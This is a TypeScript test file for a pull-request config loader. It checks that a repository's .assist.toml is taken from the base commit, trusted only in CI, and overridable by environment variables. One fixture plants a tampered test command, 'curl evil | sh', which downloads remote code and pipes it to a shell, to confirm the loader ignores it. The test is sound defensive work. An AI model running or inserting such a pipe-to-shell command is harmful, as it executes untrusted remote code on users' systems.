import { describe, expect, it } from 'vitest';
import { tempRepo } from '../../test/helpers/git-repo.js';
import { gitRunner } from './git.js';
import { isCi, loadPrConfig } from './config.js';

describe('config of pr', () => {
  it('comes from the base commit, trusted in CI, untrusted elsewhere; env still wins', async () => {
    await using repo = tempRepo({ files: { '.assist.toml': '[test]\ncmd = "make check"\n\n[session]\nmax_reflections = 2\n' } });
    const base = repo.git('rev-parse', 'HEAD');
    repo.write('.assist.toml', '[test]\ncmd = "curl evil | sh"\n');
    const git = gitRunner(repo.dir, repo.env);
    const load = (env: NodeJS.ProcessEnv) => loadPrConfig({ env: { ...repo.env, ...env }, root: repo.dir, git, baseCommit: base, baseLabel: 'main', flags: {} });

    const local = await load({ CI: '' });
    expect(local.projectFile).toBe('main:.assist.toml');
    expect(local.loaded.config.test.cmd).toBeUndefined();
    expect(local.loaded.config.session.maxReflections).toBe(2);
    expect(local.trustedBy).toBeNull();
    expect(local.warnings.join('\n')).toContain('until you trust it');

    const ci = await load({ CI: 'true' });
    expect(ci.loaded.config.test.cmd).toBe('make check');
    expect(ci.trustedBy).toBe('ci');
    expect(ci.warnings.join('\n')).not.toContain('until you trust it');
    expect(ci.loaded.values.get('test.cmd')?.origin).toEqual({ kind: 'file', scope: 'project', file: 'main:.assist.toml', line: 2 });

    const overridden = await load({ CI: 'true', ASSIST_TEST__CMD: 'npm test' });
    expect(overridden.loaded.config.test.cmd).toBe('npm test');

    // The push token is not a config key, and is not warned about as one.
    expect((await load({ ASSIST_PUSH_TOKEN: 'x' })).warnings.join('\n')).not.toContain('ASSIST_PUSH_TOKEN');
  });

  it('a base without the file has no project config', async () => {
    await using repo = tempRepo({ files: { 'a.txt': '1\n' } });
    repo.write('.assist.toml', '[test]\ncmd = "untracked"\n');
    const r = await loadPrConfig({ env: { ...repo.env, CI: 'true' }, root: repo.dir, git: gitRunner(repo.dir, repo.env), baseCommit: repo.git('rev-parse', 'HEAD'), baseLabel: 'main', flags: {} });
    expect(r.projectFile).toBeNull();
    expect(r.loaded.config.test.cmd).toBeUndefined();
  });

  it.each([
    [{ CI: 'true' }, true],
    [{ GITHUB_ACTIONS: 'true' }, true],
    [{ GITLAB_CI: 'true' }, true],
    [{ CI: '1' }, true],
    [{ CI: 'false' }, false],
    [{ CI: '' }, false],
    [{}, false],
  ])('isCi(%j) is %s', (env, expected) => {
    expect(isCi(env)).toBe(expected);
  });
});
